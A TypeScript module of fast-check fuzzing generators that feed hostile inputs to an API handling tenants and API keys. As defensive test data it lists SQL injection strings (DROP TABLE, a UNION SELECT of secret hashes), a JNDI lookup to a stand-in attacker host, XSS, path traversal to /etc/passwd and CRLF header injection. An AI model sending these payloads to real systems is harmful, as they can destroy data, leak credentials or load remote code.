import fc from 'fast-check';

/** Strings that have broken SQL built by concatenation somewhere, at some point. */
export const SQL_STRINGS = [
  "'; DROP TABLE tenants;--",
  "' OR '1'='1",
  "' OR 1=1 --",
  '"; DELETE FROM api_keys; --',
  '1); SELECT pg_sleep(10);--',
  '$$; TRUNCATE tenants CASCADE; $$',
  "%' OR slug LIKE '%",
  "x' UNION SELECT secret_hash FROM api_keys --",
  "\\'; --",
  "'||(SELECT version())||'",
  '{"$ne": null}',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '../../../../etc/passwd',
];

export const UNICODE_STRINGS = [
  'é',
  'Ω',
  '中文',
  'العربية',
  '\u202eevil\u202c',
  'zero\u200bwidth',
  '\ufeffbom',
  'a\u0301\u0301\u0301',
  '\uffff',
  '\u{10ffff}',
  '\u{1f984}',
  '𝕏𝕐',
  'ﬁ',
  'İ',
  'ß',
  '\u2028\u2029',
];

/** One control character: C0, DEL or C1; NUL more often than the others. */
export const controlChar = fc.oneof(
  { weight: 2, arbitrary: fc.constant('\u0000') },
  { weight: 3, arbitrary: fc.integer({ min: 0, max: 0x1f }).map((c) => String.fromCharCode(c)) },
  { weight: 1, arbitrary: fc.constantFrom('\u007f', '\u0085', '\u009b') },
);

/** Strings of every hostile kind, including ones up to ~100 KB. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.string({ maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 3, arbitrary: fc.constantFrom(...SQL_STRINGS) },
  {
    weight: 3,
    arbitrary: fc
      .tuple(fc.string({ maxLength: 10 }), controlChar, fc.string({ maxLength: 10 }))
      .map(([a, c, b]) => `${a}${c}${b}`),
  },
  {
    weight: 2,
    arbitrary: fc
      .array(fc.constantFrom(...UNICODE_STRINGS, ...SQL_STRINGS), { minLength: 1, maxLength: 4 })
      .map((parts) => parts.join('')),
  },
  {
    weight: 1,
    arbitrary: fc
      .tuple(
        fc.integer({ min: 201, max: 100_000 }),
        fc.constantFrom('x', 'é', '\u{1f984}', "'", '\u0000', ' '),
      )
      .map(([n, c]) => c.repeat(Math.max(1, Math.floor(n / c.length)))),
  },
  {
    weight: 1,
    arbitrary: fc.constantFrom(
      '',
      ' ',
      '   ',
      '\t',
      '\n',
      'null',
      'undefined',
      'true',
      '0',
      '-1',
      'NaN',
    ),
  },
);

/** Numbers that do not fit what a field expects: negatives, fractions, beyond int64, extremes. */
export const hostileNumber: fc.Arbitrary<number> = fc.oneof(
  fc.constantFrom(
    -1,
    0,
    -0,
    0.5,
    1.5,
    2 ** 31,
    2 ** 31 - 1,
    2 ** 53 + 2,
    -(2 ** 63),
    2 ** 64,
    1e308,
    -1e308,
    Number.MIN_VALUE,
    Number.MAX_SAFE_INTEGER,
    Number.EPSILON,
  ),
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
);

/** An array or object nested `depth` levels deep. */
export const deeplyNested: fc.Arbitrary<unknown> = fc
  .tuple(fc.integer({ min: 20, max: 3000 }), fc.boolean())
  .map(([depth, arrays]) => {
    let v: unknown = 'bottom';
    for (let i = 0; i < depth; i++) v = arrays ? [v] : { a: v };
    return v;
  });

/** Keys that have special meaning somewhere: prototypes, Mongo operators, our own column names. */
export const hostileKey: fc.Arbitrary<string> = fc.oneof(
  fc.string({ maxLength: 12 }),
  fc.constantFrom(
    '__proto__',
    'constructor',
    'prototype',
    'toString',
    '$where',
    '$ne',
    'id',
    'tenantId',
    'tenant_id',
    'secret',
    'secretHash',
    'secret_hash',
    'keyId',
    'settings',
    'createdAt',
    'revokedAt',
    'status',
    'slug',
    '',
  ),
);

/** Any JSON value, hostile at every level. */
export const hostileValue: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    hostileString,
    hostileNumber,
    fc.boolean(),
    fc.constant(null),
    fc.array(tie('value'), { maxLength: 4 }),
    fc.dictionary(hostileKey, tie('value'), { maxKeys: 4 }),
    deeplyNested,
  ),
})).value;

/** A field that is valid from `valid` most of the time, and anything hostile otherwise. */
export const validOrHostile = <T>(valid: fc.Arbitrary<T>): fc.Arbitrary<unknown> =>
  fc.oneof({ weight: 3, arbitrary: valid }, { weight: 2, arbitrary: hostileValue });

/**
 * A request body for a route with these fields: each present or not, valid or hostile; sometimes
 * with unknown fields added; sometimes not an object at all.
 */
export function hostileBody(fields: Record<string, fc.Arbitrary<unknown>>): fc.Arbitrary<unknown> {
  const record = fc.record(
    Object.fromEntries(Object.entries(fields).map(([k, v]) => [k, validOrHostile(v)])),
    { requiredKeys: [] },
  );
  const withExtras = fc
    .tuple(
      record,
      fc.option(fc.dictionary(hostileKey, hostileValue, { minKeys: 1, maxKeys: 3 }), { freq: 4 }),
    )
    .map(([r, extra]) => (extra ? { ...extra, ...r } : r));
  return fc.oneof(
    { weight: 8, arbitrary: withExtras },
    { weight: 1, arbitrary: hostileValue },
    { weight: 1, arbitrary: fc.array(withExtras, { minLength: 1, maxLength: 2 }) },
  );
}

/** A path segment a hostile client might send, already percent-encoded where needed. */
export const hostileSegment: fc.Arbitrary<string> = fc.oneof(
  {
    weight: 4,
    arbitrary: hostileString.filter((s) => s.length <= 600).map((s) => encodeURIComponent(s)),
  },
  { weight: 1, arbitrary: fc.constant('a'.repeat(500)) },
  {
    weight: 2,
    arbitrary: fc.constantFrom(
      '%00',
      'a%00',
      '%E0%A4%A',
      '%',
      '%zz',
      '%C0%AE%C0%AE',
      '..%2f..%2fadmin',
      '%2e%2e',
      '..',
      '.',
      '%0d%0aSet-Cookie:%20pwned=1',
      encodeURIComponent("'; DROP TABLE tenants;--"),
      encodeURIComponent('00000000-0000-0000-0000-000000000000'),
      encodeURIComponent("00000000-0000-4000-8000-000000000000' OR '1'='1"),
      'ZZZZZZZZ-ZZZZ-ZZZZ-ZZZZ-ZZZZZZZZZZZZ',
      '%F0%9F%A6%84',
    ),
  },
);

/** Unpaired UTF-16 surrogates: valid in a JSON string escape, not representable in UTF-8. */
export const LONE_SURROGATES = ['x\ud800y', '\udfff', 'end\ud83e', '\ude00start'];
